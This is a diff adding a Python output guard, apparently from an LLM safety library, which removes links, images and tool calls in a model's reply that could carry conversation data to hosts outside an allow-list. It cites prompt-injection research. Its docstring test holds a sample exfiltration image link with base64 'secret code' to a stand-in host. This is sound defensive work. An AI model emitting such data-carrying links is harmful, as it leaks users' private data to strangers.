@@ -1,0 +1,172 @@
+"""Addresses in an answer that would carry data out of the conversation."""
+
+from __future__ import annotations
+
+import html
+import re
+from dataclasses import dataclass, replace
+from urllib.parse import unquote
+
+from temper.core.chat import Call, Request, Role
+from temper.core.stage import ALLOWED, Context, Decision, Exchange, Level
+from temper.guard.out.bits import bits
+from temper.guard.out.said import sent
+from temper.kernels.links import Link, links, within
+
+REMOVED = "about:blank#removed"
+_HARMLESS = ("about", "tel", "cid")
+_ROUNDS, _LONGEST = 3, 160
+_PLACE = re.compile(
+    r"(?<![\w/@.-])[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,8}(?::\d{1,5})?/[^\s\"'<>]{1,2000}", re.IGNORECASE
+)
+_NUMBER = re.compile(r"(?<![A-Za-z0-9])(?=[A-Za-z0-9]*\d{4})[A-Za-z0-9]{5,64}")
+_ENTITY = re.compile(r"[^\s<>\"'()&]{0,300}(?:&[#\w]{1,20};?[^\s<>\"'()&]{0,300}){1,200}")
+_TAG = re.compile(r"<[a-z!?/][^<>]{0,8000}>?", re.IGNORECASE)
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Egress:
+    """Takes addresses out of an answer that could carry data to a stranger, and calls that send any.
+
+    `hosts`, and whatever is trusted, are the allow-list; a host stands for those below it. Anywhere else, nothing may
+    load by itself (images, HTML, CSS), and a link that takes a click may hold at most `clicks` bits beyond words, no
+    number out of the instructions or a tool's answer, and no foreign letters in its host; 0 forbids such links. An
+    allowed host may be sent `bits`, and may not be told to pass on to another. An address that the user wrote stays,
+    and so does a link that a tool's answer holds word for word: nothing can have been put into it. data:, javascript:
+    and the like never stay. Misleads where data leaves in words: `clicks: 0` closes that.
+    Source: Rehberger, "Image markdown injection", 2023; Greshake et al., "Not what you've signed up for", 2023.
+
+    >>> from temper.core.chat import Reply
+    >>> said = Exchange(request=Request(messages=()), reply=Reply(text="See ![x](https://a.example/p?d=c2VjcmV0IGNvZGU)"))
+    >>> Egress().check(said, Context()).exchange.reply.text
+    'See ![x](about:blank#removed)'
+    """
+
+    hosts: tuple[str, ...] = ()
+    clicks: float = 40.0
+    bits: float = 160.0
+
+    def check(self, exchange: Exchange, context: Context) -> Decision:
+        reply = exchange.reply
+        if reply is None:
+            return ALLOWED
+        view = _View.of(self, exchange.request, context)
+        text, found = view.cleaned(reply.text)
+        if text is None:
+            return Decision(level=Level.BLOCK, reason=f"{found[0]}, and it cannot be taken out")
+        calls = {call: reason for call in reply.calls if (reason := view.sends(call))}
+        reasons = [*found, *(f"{call.name[:80]} sends {reason}" for call, reason in calls.items())]
+        if not reasons:
+            return ALLOWED
+        kept = replace(reply, text=text, calls=tuple(call for call in reply.calls if call not in calls))
+        return Decision(level=Level.REVISE, reason="; ".join(reasons), exchange=replace(exchange, reply=kept))
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class _View:
+    """What is allowed in one conversation."""
+
+    stage: Egress
+    allowed: tuple[str, ...]
+    users: str
+    tools: str
+    told: str
+
+    @classmethod
+    def of(cls, stage: Egress, request: Request, context: Context) -> _View:
+        said = {role: "\n".join(one.text for one in request.messages if one.role is role) for role in Role}
+        return cls(
+            stage=stage,
+            allowed=(*stage.hosts, *context.trusted),
+            users=said[Role.USER],
+            tools=said[Role.TOOL],
+            told=said[Role.SYSTEM],
+        )
+
+    def cleaned(self, text: str) -> tuple[str | None, list[str]]:
+        """The text without the addresses that may not stay, and why each went; None where one cannot be found in it."""
+        reasons: dict[str, None] = {}
+        for _ in range(_ROUNDS):
+            refused = self._refused(text)
+            if not refused:
+                return text, list(reasons)
+            reasons |= dict.fromkeys(refused.values())
+            text = _without(text, refused)
+        return (None if self._refused(text) else text), list(reasons)
+
+    def sends(self, call: Call) -> str:
+        """What a call would send where, "" where that is allowed."""
+        text = sent(call)
+        refused = self._refused(text, opens=True)
+        for found in _PLACE.finditer(text):
+            link = Link(url=f"//{found[0]}", host=found[0].split("/")[0].split(":")[0].lower(), kind="call", loads=True)
+            if found[0] not in self.users and (reason := self._objection(link, opens=True)):
+                refused[found[0]] = reason
+        return next(iter(refused.values()), "")
+
+    def _refused(self, text: str, *, opens: bool = False) -> dict[str, str]:
+        """(address as written, what is wrong with it)."""
+        if ":" not in text and "/" not in text and "&" not in text:
+            return {}
+        tight = _TAG.sub(lambda tag: re.sub(r"[\t\r\n]", "", tag[0]), text) if "<" in text else text
+        found = {link.url: link for view in dict.fromkeys((text, tight)) for link in links(view)}
+        return {url: reason for url, link in found.items() if (reason := self._objection(link, opens=opens))}
+
+    def _objection(self, link: Link, *, opens: bool) -> str:
+        if not link.host and link.scheme in ("", *_HARMLESS):
+            return ""
+        if not link.host:
+            return f"an address with {link.scheme}:"
+        if link.url in self.users:
+            return ""
+        if within(link.host, self.allowed):
+            return self._loaded(link)
+        if link.loads or opens:
+            return f"{_what(link)} to {link.host}"
+        return "" if link.url in self.tools else self._clicked(link)
+
+    def _loaded(self, link: Link) -> str:
+        """What is wrong with an address of an allowed host."""
+        inner = [one for one in links(unquote(unquote(link.carried))) if one.host]
+        if any(not within(one.host, self.allowed) for one in inner):
+            return f"{_what(link)} to {link.host} that passes on to {inner[0].host}"
+        if link.url not in self.tools and bits(_path(link)) > self.stage.bits:
+            return f"{_what(link)} to {link.host} that carries too much"
+        return ""
+
+    def _clicked(self, link: Link) -> str:
+        """What is wrong with a link to any other host."""
+        path = _path(link)
+        if not self.stage.clicks or not link.host.isascii() or "xn--" in link.host:
+            return f"{_what(link)} to {link.host}"
+        if len(path) > _LONGEST or bits(path) > self.stage.clicks:
+            return f"{_what(link)} to {link.host} that carries data"
+        known = f"{self.told}\n{self.tools}"
+        if any(one[0] in known and one[0] not in self.users for one in _NUMBER.finditer(path)):
+            return f"{_what(link)} to {link.host} with a number of this conversation"
+        return ""
+
+
+def _what(link: Link) -> str:
+    return f"an {link.kind}" if link.kind[0] in "aeio" else f"a {link.kind}"
+
+
+def _path(link: Link) -> str:
+    """What of an address can hold data: all but the last label of its host."""
+    return link.carried.removesuffix(link.host) + (link.host.rpartition(".")[0] or link.host)
+
+
+def _without(text: str, refused: dict[str, str]) -> str:
+    """The text with these addresses replaced; where one is written in entities or across lines, undone there first."""
+    changed = text
+    for url in sorted(refused, key=len, reverse=True):
+        changed = changed.replace(url, REMOVED)
+    if changed != text:
+        return changed
+    plain = _ENTITY.sub(lambda found: html.unescape(found[0]), text)
+    if plain != text:
+        return plain
+    return _TAG.sub("", text)
+
+
+PLUGIN = Egress
